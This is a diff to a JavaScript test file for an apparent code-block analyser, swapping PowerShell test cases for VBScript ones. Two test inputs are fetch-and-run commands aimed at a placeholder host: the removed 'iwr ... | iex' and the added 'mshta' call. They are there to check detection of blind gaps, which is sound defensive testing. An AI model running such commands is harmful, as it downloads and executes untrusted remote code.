@@ -17,15 +17,15 @@ describe('code in a document', () => {
   });
 
   it('is a gap in a language without a front end', () => {
-    const { gaps, embedded } = lower('```powershell\nGet-ChildItem\n```\n');
+    const { gaps, embedded } = lower('```vbs\nDim x\n```\n');
     expect(embedded).toEqual([]);
     expect(gaps.map(({ kind, code: name, reason }) => [kind, name, reason])).toEqual([
-      ['partial', 'language', 'A code block in PowerShell, a language that is not analysed.'],
+      ['partial', 'language', 'A code block in VBScript, a language that is not analysed.'],
     ]);
   });
 
   it('is a blind gap where that language fetches and runs something', () => {
-    expect(lower('```powershell\niwr https://a.example | iex\n```\n').gaps.map(({ kind }) => kind)).toEqual(['blind']);
+    expect(lower('```vbs\nshell.Run "mshta https://a.example"\n```\n').gaps.map(({ kind }) => kind)).toEqual(['blind']);
   });
 
   it('is told, and instructs in a SKILL.md', () => {
